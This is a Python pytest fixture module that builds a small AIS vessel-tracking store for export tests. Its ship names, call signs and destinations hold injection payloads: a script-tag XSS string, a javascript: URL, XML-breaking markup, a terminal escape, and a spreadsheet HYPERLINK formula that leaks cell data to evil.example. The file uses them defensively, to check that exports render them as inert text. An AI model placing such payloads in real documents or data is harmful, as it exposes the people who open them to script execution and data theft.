"""A small store for the export tests: four vessels, hostile identities, a few events.

- HOSTILE (MMSI 273000001): named ``<script>alert(1)</script>``, call sign with a terminal escape;
  two segments (a 8 h silence), one spoofed fix 4000 km away in the middle of the first, and
  fixes on both sides of the Greenwich meridian (negative longitudes).
- FORMULA (412000002): named ``=HYPERLINK(...)``, call sign ``]]></name><name>x`` and a control
  character; crosses the antimeridian.
- RENAMED (538000003): two names (the first ``]]></name><name>x``), a valid IMO number; a one-fix
  segment after a 10 h silence.
- SILENT (636000004): positions but no static report.

Events: an AIS_GAP (start and end positions: a line), a DESTINATION_MISMATCH whose declared
destination is ``javascript:alert(1)``, an ENCOUNTER of HOSTILE with RENAMED, an IDENTITY_CHANGE
(no position).
"""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from shadowtrace.export import Selection, export
from shadowtrace.models.events import Event, events_table
from shadowtrace.models.tables import POSITIONS, STATICS
from shadowtrace.store.store import Store

T0 = dt.datetime(2017, 10, 1, tzinfo=dt.UTC)
HOSTILE, FORMULA, RENAMED, SILENT = 273000001, 412000002, 538000003, 636000004
IMO_FORMULA, IMO_RENAMED = 9074729, 9301237

SCRIPT = "<script>alert(1)</script>"
JAVASCRIPT = "javascript:alert(1)"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
MARKUP = "]]></name><name>x"
#: the four hostile strings of issue 6, every one of which must come out as text
HOSTILE_TEXT = (SCRIPT, JAVASCRIPT, HYPERLINK, MARKUP)
ESCAPE = "\x1b[31mRED"  # a terminal escape sequence in a call sign


def _minutes(m: float) -> dt.datetime:
    return T0 + dt.timedelta(minutes=m)


def _fixes() -> list[dict[str, Any]]:
    """(mmsi, minutes, lat, lon, sog) rows."""
    rows: list[tuple[int, float, float, float, float]] = []
    for i in range(10):  # HOSTILE, segment 0: across the meridian, eastwards, 10 min apart
        rows.append((HOSTILE, 10 * i, 50.0, -0.05 + 0.01 * i, 4.0))
    rows.append((HOSTILE, 45, 10.0, 10.0, 4.0))  # spoofed: set aside as a position jump
    for i in range(5):  # segment 1, after 8 h of silence
        rows.append((HOSTILE, 90 + 480 + 10 * i, 50.0, 0.1 + 0.01 * i, 4.0))
    for i, lon in enumerate((179.96, 179.98, 179.995, -179.99, -179.97, -179.95)):  # FORMULA: antimeridian
        rows.append((FORMULA, 10 * i, 60.0 + 0.001 * i, lon, 5.0))
    for i in range(3):  # RENAMED: three fixes, then one after 10 h
        rows.append((RENAMED, 20 * i, 41.0, 130.0 + 0.01 * i, 3.0))
    rows.append((RENAMED, 40 + 600, 41.0, 130.5, 0.0))
    for i in range(4):
        rows.append((SILENT, 15 * i, -33.9, 18.4 + 0.01 * i, 2.0))
    return [
        {"source_id": 1, "line": n + 1, "line_last": n + 1, "ts": _minutes(m), "msg_type": 1, "repeat": 0,
         "mmsi": mmsi, "lat": lat, "lon": lon, "sog_kn": sog, "cog_deg": 90.0}
        for n, (mmsi, m, lat, lon, sog) in enumerate(rows)
    ]


def _statics() -> list[dict[str, Any]]:
    rows = [
        (HOSTILE, 0, SCRIPT, ESCAPE, None, 70),
        (FORMULA, 0, HYPERLINK, MARKUP + "\x01", IMO_FORMULA, 80),
        (RENAMED, -600, MARKUP, "D7AB", IMO_RENAMED, 80),
        (RENAMED, 0, "STAR OF KP", "D7AB", IMO_RENAMED, 80),
    ]
    return [
        {"source_id": 1, "line": 1000 + n, "line_last": 1000 + n, "ts": _minutes(m), "msg_type": 5, "repeat": 0,
         "mmsi": mmsi, "shipname": name, "callsign": call, "imo": imo, "ship_type": kind, "destination": JAVASCRIPT}
        for n, (mmsi, m, name, call, imo, kind) in enumerate(rows)
    ]


def events() -> list[Event]:
    gap_start, gap_end = _minutes(90), _minutes(570)
    return [
        Event(kind="AIS_GAP", detector="gaps@1", subject=f"mmsi:{HOSTILE}", start=gap_start, end=gap_end,
              mmsi=HOSTILE, vessel_name=SCRIPT, lat=50.04, lon=0.04, severity="high", score=0.9,
              reasons=[f"{SCRIPT} fell silent under way"],
              details={"start_lat": 50.04, "start_lon": 0.04, "end_lat": 50.0, "end_lon": 0.1, "duration_h": 8.0},
              evidence=[(1, 10, "before"), (1, 12, "after")]),
        Event(kind="DESTINATION_MISMATCH", detector="mismatch@1", subject=f"mmsi:{FORMULA}", start=_minutes(30),
              end=_minutes(50), mmsi=FORMULA, imo=IMO_FORMULA, vessel_name=HYPERLINK, lat=60.0, lon=-179.99,
              severity="medium", score=0.6, reasons=[f"declared {JAVASCRIPT}, reached Rajin"],
              details={"declared_raw": JAVASCRIPT, "actual_port": "Rajin", "actual_country": "KP", "declared": "CN"},
              evidence=[(1, 1001, "declared")]),
        Event(kind="ENCOUNTER", detector="encounters@1", subject=f"mmsi:{HOSTILE}", start=_minutes(0),
              end=_minutes(120), mmsi=HOSTILE, vessel_name=SCRIPT, lat=45.0, lon=-0.01, severity="medium",
              other=f"mmsi:{RENAMED}", details={"other": {"mmsi": RENAMED, "name": MARKUP}, "duration_h": 2.0}),
        Event(kind="IDENTITY_CHANGE", detector="identity@1", subject=f"mmsi:{RENAMED}", start=_minutes(-1),
              mmsi=RENAMED, imo=IMO_RENAMED, vessel_name=MARKUP, severity="low",
              reasons=[f"name changed from {MARKUP} to STAR OF KP"], details={"field": "shipname"}),
    ]


def make_store(root: Path) -> Store:
    store = Store(root)
    with store.transaction("ingest") as txn:
        txn.write("positions", 1, pa.Table.from_pylist(_fixes(), schema=POSITIONS))
        txn.write("statics", 1, pa.Table.from_pylist(_statics(), schema=STATICS))
    with store.transaction("detect") as txn:
        txn.write("events", 0, events_table(events()))
    return store


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return make_store(tmp_path_factory.mktemp("export") / "data")


def export_text(store: Store, fmt: str, what: str = "all", selection: Selection | None = None, **kw: Any) -> str:
    """What ``shadowtrace export`` writes, as text."""
    out = io.StringIO()
    export(store, fmt, out, what=what, selection=selection, **kw)
    return out.getvalue()
